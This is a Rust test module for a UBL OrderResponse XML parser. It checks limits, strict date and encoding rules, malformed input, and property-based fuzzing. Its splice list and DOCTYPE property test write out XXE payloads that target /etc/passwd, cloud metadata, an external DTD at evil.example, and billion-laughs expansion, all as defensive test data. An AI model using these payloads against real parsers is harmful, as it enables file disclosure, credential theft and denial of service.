    fn refuses_undeclared_entities() {
        let err = parse_err(&minimal("AP", "<cbc:Note>&xxe;</cbc:Note>"));
        assert_eq!(err, UblError::UndefinedEntity("xxe".into()));
        // Even where nothing is read, the document is not well-formed.
        let err = parse_err(&minimal("AP", "<cac:Other>&nbsp;</cac:Other>"));
        assert_eq!(err.code(), "ubl-undefined-entity");
    }

    #[test]
    fn predefined_and_numeric_references_are_resolved() {
        let r = parse(&minimal(
            "AP",
            "<cbc:Note>Fish &amp; Chips &lt;3 &quot;ok&quot; &apos;n&apos; caf&#233; &#x1F69A;</cbc:Note>",
        ));
        assert_eq!(
            r.note.as_deref(),
            Some("Fish & Chips <3 \"ok\" 'n' café 🚚")
        );
        let r = parse(&minimal(
            "AP",
            "<cbc:Note><![CDATA[<b>bold</b> & co]]></cbc:Note>",
        ));
        assert_eq!(r.note.as_deref(), Some("<b>bold</b> & co"));
        assert_eq!(
            parse_err(&minimal("AP", "<cbc:Note>&#0;</cbc:Note>")).code(),
            "ubl-malformed"
        );
        assert_eq!(
            parse_err(&minimal("AP", "<cbc:Note>a & b</cbc:Note>")).code(),
            "ubl-malformed"
        );
    }

    #[test]
    fn control_characters_are_stripped_from_values() {
        let r = parse(&minimal(
            "AP",
            "<cbc:Note>ok&#1;\u{7}\u{1b}[2J then\r\nnext</cbc:Note><cbc:Note>second</cbc:Note>",
        ));
        assert_eq!(r.note.as_deref(), Some("ok[2J then\nnext\nsecond"));
    }

    #[test]
    fn refuses_oversized_input() {
        let mut xml = minimal("AP", "").into_bytes();
        xml.resize(MAX_INPUT_BYTES + 1, b' ');
        assert_eq!(
            parse_order_response(&xml).unwrap_err(),
            UblError::TooLarge {
                size: MAX_INPUT_BYTES + 1,
                limit: MAX_INPUT_BYTES
            }
        );
        xml.truncate(MAX_INPUT_BYTES);
        assert!(
            parse_order_response(&xml).is_ok(),
            "exactly the limit is accepted"
        );
    }

    #[test]
    fn refuses_deep_nesting() {
        let nested = |levels: usize| {
            let open = "<cac:X>".repeat(levels);
            let close = "</cac:X>".repeat(levels);
            minimal("AP", &format!("{open}{close}"))
        };
        // The root counts as one level.
        assert!(parse_order_response(nested(MAX_DEPTH - 1).as_bytes()).is_ok());
        assert_eq!(
            parse_err(&nested(MAX_DEPTH)),
            UblError::TooDeep { limit: MAX_DEPTH }
        );
        assert_eq!(parse_err(&nested(50_000)).code(), "ubl-too-deep");
    }

    #[test]
    fn refuses_too_many_lines() {
        let lines = |n: usize| {
            (1..=n)
                .map(|i| line(&i.to_string(), "5"))
                .collect::<String>()
        };
        assert_eq!(
            parse(&minimal("CA", &lines(MAX_LINES))).lines.len(),
            MAX_LINES
        );
        assert_eq!(
            parse_err(&minimal("CA", &lines(MAX_LINES + 1))),
            UblError::TooManyLines { limit: MAX_LINES }
        );
    }

    #[test]
    fn refuses_wrong_root() {
        let order = r#"<Order xmlns="urn:oasis:names:specification:ubl:schema:xsd:Order-2"><cbc:ID xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">1</cbc:ID></Order>"#;
        let err = parse_err(order);
        assert_eq!(
            err,
            UblError::WrongRoot {
                local: "Order".into(),
                namespace: "urn:oasis:names:specification:ubl:schema:xsd:Order-2".into()
            }
        );
        let no_namespace = "<OrderResponse><ID>1</ID></OrderResponse>";
        assert_eq!(parse_err(no_namespace).code(), "ubl-wrong-root");
        let wrong_namespace =
            r#"<OrderResponse xmlns="urn:oasis:names:specification:ubl:schema:xsd:Order-2"/>"#;
        assert_eq!(parse_err(wrong_namespace).code(), "ubl-wrong-root");
    }

    #[test]
    fn refuses_missing_or_unknown_code() {
        let no_code =
            doc("<cbc:ID>R</cbc:ID><cac:OrderReference><cbc:ID>C</cbc:ID></cac:OrderReference>");
        let err = parse_err(&no_code);
        assert_eq!(
            err,
            UblError::MissingElement("cbc:OrderResponseCode".into())
        );
        assert_eq!(err.to_string(), "cbc:OrderResponseCode is missing");
        assert_eq!(err.code(), "ubl-missing-element");
        assert_eq!(
            parse_err(&minimal("", "")),
            UblError::MissingElement("cbc:OrderResponseCode".into())
        );
        let err = parse_err(&minimal("XY", ""));
        assert_eq!(
            err.to_string(),
            "unknown OrderResponseCode XY; use AB, AP, RE or CA"
        );
        assert_eq!(err.code(), "ubl-unknown-response-code");
        assert_eq!(
            parse_err(&minimal("ap", "")).code(),
            "ubl-unknown-response-code"
        );
    }

    #[test]
    fn refuses_missing_identifiers() {
        let no_reference =
            doc("<cbc:ID>R</cbc:ID><cbc:OrderResponseCode>AP</cbc:OrderResponseCode>");
        assert_eq!(
            parse_err(&no_reference).to_string(),
            "cac:OrderReference/cbc:ID is missing"
        );
        let no_id = doc("<cbc:OrderResponseCode>AP</cbc:OrderResponseCode><cac:OrderReference><cbc:ID>C</cbc:ID></cac:OrderReference>");
        assert_eq!(parse_err(&no_id).to_string(), "cbc:ID is missing");
        let no_status =
            "<cac:OrderLine><cac:LineItem><cbc:ID>1</cbc:ID></cac:LineItem></cac:OrderLine>";
        assert_eq!(
            parse_err(&minimal("CA", no_status)).to_string(),
            "cac:OrderLine[1]/cac:LineItem/cbc:LineStatusCode is missing"
        );
        let no_line_id = "<cac:OrderLine><cac:LineItem><cbc:LineStatusCode>5</cbc:LineStatusCode></cac:LineItem></cac:OrderLine>";
        assert_eq!(
            parse_err(&minimal("CA", &format!("{}{no_line_id}", line("1", "5")))).code(),
            "ubl-missing-element"
        );
    }

    #[test]
    fn refuses_duplicates() {
        let twice = minimal("AP", "<cbc:OrderResponseCode>RE</cbc:OrderResponseCode>");
        assert_eq!(
            parse_err(&twice),
            UblError::DuplicateElement("cbc:OrderResponseCode".into())
        );
        let two_refs = minimal(
            "AP",
            "<cac:OrderReference><cbc:ID>OTHER</cbc:ID></cac:OrderReference>",
        );
        assert_eq!(parse_err(&two_refs).code(), "ubl-duplicate-element");
        let two_statuses = "<cac:OrderLine><cac:LineItem><cbc:ID>1</cbc:ID><cbc:LineStatusCode>5</cbc:LineStatusCode>\
            <cbc:LineStatusCode>7</cbc:LineStatusCode></cac:LineItem></cac:OrderLine>";
        assert_eq!(
            parse_err(&minimal("CA", two_statuses)).code(),
            "ubl-duplicate-element"
        );
    }

    #[test]
    fn dates_are_strict() {
        for bad in [
            "2013-13-01",
            "2013-02-30",
            "13-07-01",
            "2013-07-01Z",
            "2013-7-1",
            "+2013-07-01",
            "２０１３-07-01",
        ] {
            let xml = doc(&format!(
                "<cbc:ID>R</cbc:ID><cbc:IssueDate>{bad}</cbc:IssueDate><cbc:OrderResponseCode>AP</cbc:OrderResponseCode>\
                 <cac:OrderReference><cbc:ID>C</cbc:ID></cac:OrderReference>"
            ));
            let err = parse_err(&xml);
            assert_eq!(err.code(), "ubl-invalid-date", "{bad}");
            assert!(err.to_string().starts_with("cbc:IssueDate '"), "{err}");
        }
        assert_eq!(
            parse_date("x", "2024-02-29").unwrap(),
            NaiveDate::from_ymd_opt(2024, 2, 29).unwrap()
        );
        assert_eq!(
            parse_date("x", "0001-01-01").unwrap(),
            NaiveDate::from_ymd_opt(1, 1, 1).unwrap()
        );
    }

    #[test]
    fn issue_date_is_optional() {
        let xml = doc(
            "<cbc:ID>R</cbc:ID><cbc:OrderResponseCode>AP</cbc:OrderResponseCode>\
            <cac:OrderReference><cbc:ID>C</cbc:ID></cac:OrderReference>",
        );
        assert_eq!(parse(&xml).issue_date, None);
    }

    #[test]
    fn malformed_messages_are_bounded() {
        let tag = format!("<cbc:Note>x</cbc:{}\u{1b}>", "N".repeat(5000));
        let message = parse_err(&minimal("AP", &tag)).to_string();
        assert!(message.chars().count() < 300, "{message}");
        assert!(!message.contains('\u{1b}'));
    }

    #[test]
    fn refuses_malformed_documents() {
        for (name, xml) in [
            ("empty", String::new()),
            ("whitespace", "  \n ".to_owned()),
            (
                "unclosed root",
                minimal("AP", "").replace("</OrderResponse>", ""),
            ),
            ("mismatched end", minimal("AP", "<cbc:Note>x</cbc:Nope>")),
            (
                "second root",
                format!("{}<OrderResponse/>", minimal("AP", "")),
            ),
            ("text after root", format!("{}garbage", minimal("AP", ""))),
            ("unterminated tag", minimal("AP", "<cbc:Note")),
        ] {
            let err = parse_order_response(xml.as_bytes()).expect_err(name);
            assert_eq!(err.code(), "ubl-malformed", "{name}: {err}");
        }
    }

    #[test]
    fn encodings() {
        assert_eq!(
            parse_order_response(&[0xff, 0xfe, 0x3c, 0x00]).unwrap_err(),
            UblError::NotUtf8
        );
        let latin1 = minimal("AP", "").replace("encoding=\"UTF-8\"", "encoding=\"ISO-8859-1\"");
        assert_eq!(
            parse_err(&latin1),
            UblError::UnsupportedEncoding("ISO-8859-1".into())
        );
        let lower = minimal("AP", "").replace("UTF-8", "utf-8");
        assert!(parse_order_response(lower.as_bytes()).is_ok());
        let with_bom = format!("\u{FEFF}{}", minimal("AP", ""));
        assert!(parse_order_response(with_bom.as_bytes()).is_ok());
        let no_declaration =
            minimal("AP", "").replace("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n", "");
        assert!(parse_order_response(no_declaration.as_bytes()).is_ok());
    }

    #[test]
    fn error_messages_do_not_echo_hostile_values_verbatim() {
        let code = format!("X\n{}", "Y".repeat(500));
        let message = parse_err(&minimal(&code, "")).to_string();
        assert!(!message.contains('\n'));
        assert!(message.len() < 200, "{message}");
    }

    #[test]
    fn self_closing_elements_count_as_empty() {
        let xml = minimal("AP", "<cbc:Note/><cbc:SalesOrderID/>");
        let r = parse(&xml);
        assert_eq!((r.note, r.seller_reference), (None, None));
    }

    #[test]
    fn comments_and_processing_instructions_are_ignored() {
        let xml = minimal(
            "AP",
            "<!-- <cbc:Note>no</cbc:Note> --><?pi data?><cbc:Note>yes<!-- x --> too</cbc:Note>",
        );
        assert_eq!(parse(&xml).note.as_deref(), Some("yes too"));
    }

    /// Pieces of XML and of attacks spliced into documents by the property tests.
    const SPLICES: &[&str] = &[
        "<",
        ">",
        "&",
        "&amp;",
        "&#0;",
        "&#x10FFFF;",
        "&#xD800;",
        "&lol;",
        "]]>",
        "<![CDATA[x",
        "<!-- ",
        "-->",
        "<?pi x?>",
        "</cbc:ID>",
        "<cac:OrderLine>",
        "</OrderResponse>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
        "&e;",
        "xmlns:cbc=\"\"",
        "<cbc:ID>",
        "\u{0}",
        "\u{feff}",
        "\u{202e}",
        "é",
        "\"",
        "'",
        " a=\"1\"",
        "<a:b>",
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?>",
    ];

    /// The longest a parse may take in these tests (debug build, shared machine).
    const PARSE_BUDGET: std::time::Duration = std::time::Duration::from_millis(250);

    fn timed_parse(bytes: &[u8]) -> Result<OrderResponse, UblError> {
        let started = std::time::Instant::now();
        let result = parse_order_response(bytes);
        let took = started.elapsed();
        assert!(
            took < PARSE_BUDGET,
            "parse took {took:?} for {} bytes",
            bytes.len()
        );
        result
    }

    fn document(code: &str, line_count: usize, statuses: &[&str]) -> String {
        let lines: String = (0..line_count)
            .map(|i| line(&(i + 1).to_string(), statuses[i % statuses.len()]))
            .collect();
        minimal(code, &lines)
    }

    proptest::proptest! {
        /// Arbitrary bytes are refused (or, by chance, read), never a panic, in bounded time.
        #[test]
        fn random_bytes_never_panic(bytes in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..2048)) {
            let _ = timed_parse(&bytes);
        }

        /// Valid documents with bytes flipped, removed or duplicated, and pieces of XML or of
        /// attacks spliced in anywhere: never a panic, always bounded time, and whatever is
        /// accepted still names the order.
        #[test]
        fn mutated_documents_never_panic(
            code in proptest::sample::select(vec!["AB", "AP", "RE", "CA"]),
            line_count in 0usize..6,
            edits in proptest::collection::vec((0usize..4, proptest::prelude::any::<usize>(), proptest::prelude::any::<u8>(), proptest::sample::select(SPLICES.to_vec())), 1..8),
        ) {
            let mut bytes = document(code, line_count, &["5", "7"]).into_bytes();
            for (kind, at, byte, splice) in edits {
                let at = at % (bytes.len() + 1);
                match kind {
                    0 if at < bytes.len() => bytes[at] ^= byte | 1,
                    1 if at < bytes.len() => { bytes.remove(at); }
                    2 => { let piece = bytes[at..].iter().take(40).copied().collect::<Vec<_>>(); bytes.splice(at..at, piece); }
                    _ => { bytes.splice(at..at, splice.bytes()); }
                }
            }
            if let Ok(response) = timed_parse(&bytes) {
                proptest::prop_assert!(!response.order_reference.is_empty());
                proptest::prop_assert!(response.lines.len() <= MAX_LINES);
            }
        }

        /// A DOCTYPE anywhere before the root is refused, whatever it declares: internal
        /// entities (billion laughs), external ones (XXE), parameter entities.
        #[test]
        fn every_doctype_is_refused(
            entity in proptest::sample::select(vec![
                "<!ENTITY a \"aaaaaaaaaa\">",
                "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">",
                "<!ENTITY xxe SYSTEM \"http://169.254.169.254/latest/meta-data/\">",
                "<!ENTITY % p SYSTEM \"http://evil.example/p.dtd\"> %p;",
                "<!ENTITY a \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY b \"&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY c \"ccccccccccccccc\">",
            ]),
            copies in 1usize..4,
            reference in proptest::sample::select(vec!["&a;", "&xxe;", "&b;", "x"]),
        ) {
            let doctype = format!("<!DOCTYPE OrderResponse [{}]>", entity.repeat(copies));
            let xml = minimal("AP", "").replacen(
                "<OrderResponse ",
                &format!("{doctype}\n<OrderResponse "),
                1,
            ).replacen("R-1", reference, 1);
            proptest::prop_assert_eq!(timed_parse(xml.as_bytes()).unwrap_err(), UblError::DoctypeRefused);
        }

        /// An entity reference that is not one of the five predefined ones is refused where
        /// it stands, in text or in an attribute.
        #[test]
        fn undeclared_entities_are_refused(name in "[a-z][a-z0-9]{0,10}", in_attribute in proptest::prelude::any::<bool>()) {
            proptest::prop_assume!(!["lt", "gt", "amp", "apos", "quot"].contains(&name.as_str()));
            let xml = if in_attribute {
                minimal("AP", "").replacen("<cbc:ID>R-1</cbc:ID>", &format!("<cbc:ID schemeID=\"&{name};\">R-1</cbc:ID>"), 1)
            } else {
                minimal("AP", "").replacen("R-1", &format!("R-&{name};"), 1)
            };
            proptest::prop_assert_eq!(timed_parse(xml.as_bytes()).unwrap_err(), UblError::UndefinedEntity(name));
        }
    }

    /// The largest document accepted, with as many lines as allowed, still parses quickly.
    #[test]
    fn the_largest_document_parses_in_bounded_time() {
        let xml = document("CA", MAX_LINES, &["5", "7"]);
        assert!(xml.len() < MAX_INPUT_BYTES);
        let started = std::time::Instant::now();
        let response = parse_order_response(xml.as_bytes()).unwrap();
        assert_eq!(response.lines.len(), MAX_LINES);
        assert!(started.elapsed() < std::time::Duration::from_secs(2));
        // And a document of the maximum size made of one long text.
        let padded = minimal(
            "AP",
            &format!(
                "<cbc:Note>{}</cbc:Note>",
                "x".repeat(MAX_INPUT_BYTES - 1000)
            ),
        );
        let started = std::time::Instant::now();
        let _ = parse_order_response(&padded.as_bytes()[..MAX_INPUT_BYTES.min(padded.len())]);
        assert!(started.elapsed() < std::time::Duration::from_secs(2));
    }
}
